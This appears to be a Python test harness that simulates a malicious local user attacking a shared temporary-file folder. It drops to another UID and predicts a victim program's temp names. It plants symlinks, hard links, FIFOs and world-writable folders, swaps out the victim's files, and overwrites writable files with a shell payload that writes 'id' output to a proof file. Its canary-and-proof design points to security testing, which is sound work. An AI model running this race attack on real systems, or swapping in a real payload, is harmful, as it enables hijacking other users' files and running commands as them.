"""Another user of a node, who attacks every name in a folder for temporary files. As root:

  python attacker.py UID FOLDER CANARY PROOF

With the rights of UID it looks at FOLDER until it is ended. It knows nothing of the program that it attacks, but learns
how names begin there. Whatever appears it tries to move away and to replace, and it tries to be the first at each name
that it may get next: by folders that everybody may write, in which it rewrites all that comes, so that a shell which
reads it makes PROOF; by links to what is in CANARY, a folder of the victim's; and by pipes. It prints a line once it is
at work.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from contextlib import suppress
from itertools import cycle
from pathlib import Path

#: How a name is taken, in turn.
KINDS = ("folder of links", "link", "folder", "link to nothing", "hard link", "pipe")
#: Longer than what a victim writes first, so that none of it is left.
PADDING = "\n" * 4096


def rewrite(folder: Path, payload: bytes) -> None:
    """Replace the content of each file below `folder` that we may write."""
    found: list[Path] = []
    with suppress(OSError):  # a folder may go while it is listed
        found += folder.glob("*/*")
    for path in found:
        with suppress(OSError):
            descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOFOLLOW)
            if os.fstat(descriptor).st_size:
                os.pwrite(descriptor, payload, 0)
            os.close(descriptor)


def plant(path: Path, kind: str, canary: Path) -> None:
    """Be the first at a name."""
    with suppress(OSError):
        if kind.startswith("folder"):
            path.mkdir(0o777)
            for name in ("exports", "said", "steps.tsv", "lock", "new", "paths"):
                (path / name).symlink_to(canary / "kept") if "links" in kind else (path / name).touch(0o666)
        elif kind == "link":
            path.symlink_to(canary)
        elif kind == "link to nothing":
            path.symlink_to(canary / "new")
        elif kind == "hard link":
            path.hardlink_to(canary / "kept")
        else:
            os.mkfifo(path, 0o666)


def guesses(name: str, beginnings: set[str]) -> Iterator[str]:
    """Names that what is called `name` may get next, by how others begin."""
    end = name.rpartition(".")[2]
    yield from (f"{beginning}.{end}" for beginning in beginnings)
    yield from (name.lstrip("."), f"{name}.lock", f"{name}.tmp")


def attack(folder: Path, canary: Path) -> None:
    """Attack until this process is ended."""
    kinds = cycle(KINDS)
    host = os.uname().nodename.partition(".")[0]
    seen, beginnings = {path.name for path in folder.iterdir()}, {f"node-run.{host}"}
    print("at work", flush=True)
    while True:
        for name in {path.name for path in folder.iterdir()} - seen:
            kind = next(kinds)
            seen.add(name)
            beginnings.add(name.rpartition(".")[0])
            for guess in {*guesses(name, beginnings)} - seen:
                seen.add(guess)
                plant(folder / guess, kind, canary)
            with suppress(OSError):
                seen.add(f"away.{name}")
                (folder / name).rename(folder / f"away.{name}")
                plant(folder / name, kind, canary)


def main(uid: int, folder: Path, canary: Path, proof: Path) -> None:
    """Become another user, and attack in two processes."""
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    os.umask(0)
    attacker = os.getpid()
    if os.fork() == 0:
        while os.getppid() == attacker:
            rewrite(folder, f"id >{proof}\n{PADDING}".encode())
    else:
        attack(folder, canary)


if __name__ == "__main__":
    main(int(sys.argv[1]), *(Path(word) for word in sys.argv[2:]))
